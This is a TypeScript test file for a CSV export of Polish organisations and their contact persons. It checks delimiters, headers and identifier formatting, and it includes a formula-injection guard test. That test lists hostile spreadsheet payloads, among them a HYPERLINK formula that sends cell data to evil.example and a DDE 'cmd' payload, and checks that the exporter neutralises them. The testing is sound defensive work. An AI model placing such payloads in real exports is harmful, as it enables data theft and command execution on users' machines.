// The CSV is read back with papaparse (an independent parser), as a spreadsheet would see the cells.
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { entitiesToCsv } from '../../../shared/io/share/csvExport.ts';
import type { Entity, Saved } from '../../../shared/model/types.ts';
import { alternatywy, person, sampleEntities } from './fixtures.ts';

function parse(text: string): { rows: string[][]; delimiter: string } {
  expect(text.startsWith('\uFEFF')).toBe(true);
  // Let papaparse guess the delimiter: it must find the one we chose.
  const result = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return { rows: result.data, delimiter: result.meta.delimiter };
}

const saved: Saved = { entityId: 'krs:0000700353', status: 'in_talks', tags: ['obiady', 'seniorzy'], createdAt: '2026-11-01', updatedAt: '2026-11-01' };

describe('CSV for spreadsheets', () => {
  test('semicolon, BOM, Polish header, one row per entity with its persons side by side', () => {
    const e = alternatywy();
    const others = sampleEntities().slice(0, 3);
    const persons = [
      person(e.id, 'Anna Nowak', { role: 'Prezeska; zarząd', email: 'anna@example.pl', phone: '+48601234567' }),
      person(e.id, 'Jan "Janek" Wiśniewski\nkoordynator', { phone: '+4930123456' }),
    ];
    const { rows, delimiter } = parse(
      entitiesToCsv([{ entity: e, persons, saved }, ...others.map((entity) => ({ entity, persons: [] }))], { delimiter: ';', lang: 'pl' }),
    );
    expect(delimiter).toBe(';');
    expect(rows).toHaveLength(1 + 1 + others.length);
    const header = rows[0];
    expect(header.slice(0, 5)).toEqual(['Nazwa', 'Forma prawna', 'KRS', 'NIP', 'REGON']);
    expect(header.slice(-8)).toEqual([
      'Osoba 1', 'Osoba 1 – stanowisko', 'Osoba 1 – e-mail', 'Osoba 1 – telefon',
      'Osoba 2', 'Osoba 2 – stanowisko', 'Osoba 2 – e-mail', 'Osoba 2 – telefon',
    ]);
    const row = Object.fromEntries(header.map((h, i) => [h, rows[1][i]]));
    expect(row).toMatchObject({
      Nazwa: e.name,
      'Forma prawna': 'Spółdzielnia socjalna',
      KRS: '0000700353', // plain digits: no apostrophe for a reader to trip on
      NIP: '9291928963',
      REGON: '368553461',
      Ulica: 'ul. Gen. W. Sikorskiego 15/4',
      'Kod pocztowy': '65-454',
      Miejscowość: 'Zielona Góra',
      Telefony: '603 254 662',
      'E-maile': 'alternatywy.dlaseniora@gmail.com',
      Oferta: e.offer,
      Status: 'W rozmowach',
      Tagi: 'obiady, seniorzy',
      'Osoba 1': 'Anna Nowak',
      'Osoba 1 – stanowisko': 'Prezeska; zarząd',
      'Osoba 1 – telefon': '601 234 567',
      'Osoba 2': 'Jan "Janek" Wiśniewski\nkoordynator',
      'Osoba 2 – telefon': "'+49 30 123456", // a foreign number keeps its +, marked as text
    });
    expect(rows.every((r) => r.length === header.length)).toBe(true);
  });

  test('comma and English header', () => {
    const e = alternatywy();
    const { rows, delimiter } = parse(entitiesToCsv([{ entity: e, persons: [] }], { delimiter: ',', lang: 'en' }));
    expect(delimiter).toBe(',');
    expect(rows[0].slice(0, 3)).toEqual(['Name', 'Legal form', 'KRS']);
    expect(rows[0]).not.toContain('Person 1');
    expect(rows[1][1]).toBe('Social cooperative');
  });

  test('identifiers are written as their digits, leading zeros and all, with no apostrophe', () => {
    const e = { ...alternatywy(), krs: '0000057364', regon: '012345675', nip: '9291928963' };
    const { rows } = parse(entitiesToCsv([{ entity: e, persons: [] }], { delimiter: ';', lang: 'pl' }));
    expect(rows[1].slice(2, 5)).toEqual(['0000057364', '9291928963', '012345675']);
  });
});

describe('formula injection guard', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\'/C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

  test('no cell of any text column reaches the spreadsheet starting with = + - @ tab or CR', () => {
    for (const payload of hostile) {
      const e: Entity = {
        ...alternatywy(),
        name: payload,
        offer: payload,
        address: { street: payload, postalCode: payload, city: payload, commune: payload, county: payload, voivodeship: payload },
        emails: [payload],
        websites: [payload],
      };
      const text = entitiesToCsv(
        [{ entity: e, persons: [person(e.id, payload, { role: payload, email: payload })], saved: { ...saved, tags: [payload] } }],
        { delimiter: ';', lang: 'pl' },
      );
      const { rows } = parse(text);
      const cells = rows[1];
      const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
      expect(risky).toEqual([]);
      // The payload is still there to read, after the apostrophe.
      expect(cells[0]).toBe(`'${payload}`);
      expect(cells.filter((c) => c === `'${payload}`).length).toBeGreaterThanOrEqual(12);
    }
  });
});
